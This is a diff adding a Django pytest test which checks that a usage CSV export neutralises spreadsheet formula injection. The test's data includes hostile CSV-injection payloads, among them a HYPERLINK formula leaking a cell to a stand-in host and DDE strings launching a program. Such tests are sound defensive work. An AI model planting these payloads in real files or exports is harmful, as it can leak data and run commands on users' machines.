@@ -11,7 +11,7 @@ import pytest
 from django.test import Client
 from django.utils.timezone import now
 
-from accounts.models import User
+from accounts.models import ApiKey, User
 from accounts.services import account_for
 from accounts.templatetags.display import usd_fixed
 from gateway import usage
@@ -212,3 +212,39 @@ def test_unknown_pages_get_the_branded_404(client: Client, db: Any) -> None:
     page = client.get("/no-such-page/")
     assert page.status_code == 404
     assert b'data-testid="error-page"' in page.content
+
+
+def test_the_usage_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    signed_in: Client, alice: User
+) -> None:
+    import csv
+    import io
+
+    acct = account_for(alice)
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    for n, text in enumerate(hostile):
+        key, _ = factories.api_key(acct, name=text)
+        _record(acct, key, model=text, request_id=f"req_{n:024x}")
+    _record(acct, model="sim-gpt-4.1")
+    export = signed_in.get("/usage/export.csv", {"period": "day"})
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+    models = {r["model"] for r in rows}
+    names = {r["key_name"] for r in rows}
+    for text in hostile:
+        assert "'" + text in models, (text, models)
+    # Names are stored stripped.
+    stored = set(ApiKey.objects.filter(account=acct).values_list("name", flat=True))
+    assert len(stored) == 5  # the two whitespace-led names are stored as one
+    for name in stored:
+        assert "'" + name in names, (name, names)
+    # Nothing else changes: plain names, numbers and dates are written as they are.
+    assert "sim-gpt-4.1" in models
+    assert all(int(r["requests"]) >= 1 for r in rows)
